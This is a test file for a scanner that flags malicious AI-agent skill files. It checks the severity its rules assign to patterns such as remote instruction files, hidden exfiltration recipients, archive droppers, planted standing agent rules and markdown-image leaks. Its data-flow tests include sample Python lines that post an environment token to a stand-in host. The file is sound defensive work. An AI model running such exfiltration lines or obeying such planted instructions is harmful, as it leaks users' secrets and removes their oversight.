import { buildSkillFile } from '../ingest/classify';
import type { SkillFile } from '../ingest/ingest.types';
import type { Severity } from './engine.types';
import { evaluate } from './index';
import { RULE_DEFS } from './catalog';
import type { ExampleFile, RuleExample } from './rule-types';
import { findFlows } from './analyzers/data-flow';

/**
 * The malware classes real campaigns use (issue 10, item 3). Their match / noMatch examples live in
 * the catalog (rule-examples.spec.ts checks raised / not raised); here the severity each match
 * example must carry, in the order of the rule's `examples.match`, because the grade is part of
 * the mechanism (an instruction file that is fetched AND followed is critical, one merely linked is high).
 */
const EXPECTED_SEVERITY: Record<string, Severity[]> = {
  'untrusted-remote-instruction-file': ['critical', 'critical', 'high', 'critical', 'critical', 'critical', 'critical', 'high', 'critical', 'critical'],
  'cred-agent-token-store': ['high', 'high'],
  'exfil-hidden-recipient': ['critical', 'high', 'high', 'critical'],
  'rce-prerequisite-lure-link': ['critical', 'critical', 'critical'],
  'exfil-secret-flow-undeclared-host': Array<Severity>(7).fill('critical'),
  // Also a party named only in words ("our analytics server") when the description declares no personal data.
  'privacy-personal-data-flow-undeclared': Array<Severity>(16).fill('critical'),
  // A planted standing order that removes the user's confirmation ("without asking") or grants blanket trust is critical.
  'agent-persistent-rule-write': ['high', 'high', 'high', 'critical', 'critical', 'critical', 'critical', 'critical'],
  'trigger-priority-claim-description': ['medium', 'medium', 'medium', 'medium', 'medium', 'medium', 'medium'],
  // A host file whose presence switches behaviour or that is named as the authority is critical; a
  // plain read / run / reuse of a file under /root or /app is high.
  'untrusted-external-file-authority': ['critical', 'critical', 'critical', 'high', 'critical', 'critical', 'high', 'high', 'critical', 'high', 'critical', 'critical', 'critical'],
  // A grant in a JSON resource weighs one step lower than the command itself (resource context).
  'privesc-container-host-escape': ['high', 'high', 'medium', 'high'],
  'untrusted-remote-bootstrap-each-session': ['high', 'high', 'high', 'high', 'high', 'high', 'high'],
  'hidden-styled-text-in-resource': ['high', 'high', 'high', 'high'],
  // Download + password + run in one place is the whole dropper: critical; the archive password alone is high.
  // A download verb or address and a run step near the password make the whole dropper; "get … from the releases page" names no download.
  'rce-password-protected-archive': ['critical', 'high', 'critical', 'critical', 'critical', 'critical', 'critical', 'critical', 'critical', 'critical', 'critical', 'critical', 'critical', 'critical', 'critical', 'critical', 'critical'],
  // A machine-random value keeps the rule's severity in documentation too.
  'secret-password-assignment': ['medium', 'medium', 'medium', 'medium'],
  'obfusc-char-code-array-call': ['high', 'high', 'high'],
  'credhandling-secret-to-log': ['medium', 'medium', 'medium', 'medium', 'medium', 'high'],
  'exfil-markdown-image-prose': ['critical', 'critical', 'critical'],
  // Money moved "without asking the user" is critical; the capability alone is medium.
  'finance-move-funds': ['medium', 'medium', 'medium', 'medium', 'critical', 'critical', 'critical'],
  // A fabricated alarm ("your account has been locked") before the credential request makes the skill itself the phisher.
  'social-credential-phishing-message': ['high', 'high', 'high', 'high', 'high', 'high', 'high', 'critical', 'critical', 'critical'],
};

const NEUTRAL_FM = "---\nname: example-skill\ndescription: Formats and summarises the user's notes.\n---\n";
const toFile = (f: ExampleFile): SkillFile => buildSkillFile(f.path, Buffer.from('text' in f ? f.text : f.hex, 'text' in f ? 'utf8' : 'hex'));
function filesOf(example: RuleExample): SkillFile[] {
  if (typeof example === 'string') return [toFile({ path: 'SKILL.md', text: example.startsWith('---') ? example : NEUTRAL_FM + example })];
  if ('files' in example) return example.files.map(toFile);
  return [toFile({ path: 'SKILL.md', text: `${NEUTRAL_FM}# Example\n` }), toFile(example)];
}

describe('campaign malware rules: severity of each catalog match example', () => {
  for (const [ruleId, severities] of Object.entries(EXPECTED_SEVERITY)) {
    it(ruleId, () => {
      const match = RULE_DEFS.find((d) => d.id === ruleId)?.examples?.match ?? [];
      expect(match.length).toBe(severities.length);
      const got = match.map((ex) => evaluate(filesOf(ex)).findings.find((f) => f.ruleId === ruleId)?.severity);
      expect(got).toEqual(severities);
    });
  }

  it('a negated markdown-image instruction is a counter-example (info), not an alarm', () => {
    const r = evaluate(filesOf('Never add an image whose URL is https://x.example-cdn.net/p?d= followed by the conversation.\n'));
    expect(r.findings.find((f) => f.ruleId === 'exfil-markdown-image-prose')?.severity).toBe('info');
  });
});

describe('data flow inside one script', () => {
  const foreign = () => false;
  it('follows a secret through variables and a function return across lines', () => {
    const lines = ['def creds():', '    return os.environ.get("X_TOKEN")', 'tok, other = creds(), 1', 'hdr = {"Authorization": tok}', 'requests.post("https://a.example-sink.net/x", headers=hdr)'];
    expect(findFlows(lines, foreign)).toEqual([{ kind: 'secret', line: 4, host: 'a.example-sink.net' }]);
  });
  it('a destination the file never names literally is not compared', () => {
    expect(findFlows(['tok = os.environ["X_TOKEN"]', 'requests.post(url, data=tok)'], foreign)).toEqual([]);
  });
  it('an IP geolocation lookup is a read, not the leak', () => {
    expect(findFlows(['loc = requests.get("https://ipinfo.io/json").json()'], foreign)).toEqual([]);
    expect(findFlows(['loc = requests.get("https://ipinfo.io/json").json()', 'requests.post("https://t.example-ads.net", json=loc)'], foreign)).toEqual([
      { kind: 'personal', line: 1, host: 't.example-ads.net' },
    ]);
  });
});
